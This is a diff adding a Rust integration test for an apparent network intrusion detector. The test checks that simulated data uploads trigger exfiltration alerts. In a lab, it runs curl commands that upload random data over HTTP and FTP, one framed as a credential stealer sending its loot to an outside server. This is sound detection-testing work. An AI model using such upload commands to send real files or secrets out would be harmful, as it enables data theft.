@@ -701,3 +701,70 @@ fn an_iodine_dns_tunnel_in_one_udp_flow_is_found() {
     let found = detectors(&lab, "10.10.0.11");
     assert!(found.iter().any(|d| d == "dns.tunnel"), "{found:?}");
 }
+
+#[test]
+fn uploads_alert_at_their_command_and_a_burst_over_minutes() {
+    let lab = lab::start("detupload", &policy());
+    // The outside server takes an HTTP PUT on 8080 (a sink that never
+    // answers) and anonymous FTP uploads.
+    let _sink = background(
+        &lab,
+        "web",
+        "sink",
+        "exec socat -u TCP-LISTEN:8080,fork,reuseaddr OPEN:/dev/null",
+    );
+    let _ftp = background(
+        &lab,
+        "web",
+        "ftp",
+        "d=$(mktemp -d); chmod 777 $d; exec /usr/bin/python3 -m pyftpdlib -p 21 -w -d $d",
+    );
+    wait_listening(&lab, "web", 8080, "the upload sink");
+    wait_listening(&lab, "web", 21, "the FTP server");
+    // Each host first fetches a page by name, as browsers do (by address
+    // it would be a weak signal, `web.unnamed`, which adds up).
+    for host in ["office1", "office2"] {
+        let page = "curl -s -o /dev/null -m 2 --resolve web.lab:80:203.0.113.80 http://web.lab/ && echo ok";
+        assert!(run(&lab, host, page).contains("ok"), "{host} browses");
+    }
+    // office1: a 30 MB archive PUT to a named server: over in seconds,
+    // far below the hour's 50 MB.
+    run(
+        &lab,
+        "office1",
+        "head -c 30000000 /dev/urandom > /tmp/detupload-archive; \
+         curl -s -m 30 -T /tmp/detupload-archive --resolve drop.web.lab:8080:203.0.113.80 \
+         http://drop.web.lab:8080/up; rm -f /tmp/detupload-archive",
+    );
+    // office2: a credential stealer's FTP upload of what it took.
+    let stored = run(
+        &lab,
+        "office2",
+        "head -c 200000 /dev/urandom > /tmp/detupload-loot; \
+         curl -sS -m 20 -T /tmp/detupload-loot ftp://203.0.113.80/loot.zip 2>&1 && echo stored; \
+         rm -f /tmp/detupload-loot",
+    );
+    assert!(
+        stored.contains("stored"),
+        "the FTP upload failed: {stored}; isolated: {:?}; server log: {}",
+        isolated(&lab),
+        std::fs::read_to_string(lab.dir.join("logs").join("ftp.log")).unwrap_or_default()
+    );
+    for (host, wanted) in [
+        ("10.10.0.11", &["exfiltration.upload", "exfiltration"][..]),
+        ("10.10.0.12", &["exfiltration.upload"][..]),
+    ] {
+        let seen = wait_for(20, || {
+            let found = detectors(&lab, host);
+            wanted.iter().all(|d| found.contains(&d.to_string()))
+        });
+        assert!(seen.is_some(), "{host}: {:?}", incidents_of(&lab, host));
+    }
+    // Alerts: each alone is what an ordinary large upload could be.
+    assert!(isolated(&lab).is_empty(), "{:?}", isolated(&lab));
+    let ftp = incidents_of(&lab, "10.10.0.12");
+    assert!(
+        ftp[0]["peers"] == serde_json::json!(["203.0.113.80:21"]),
+        "{ftp:?}"
+    );
+}
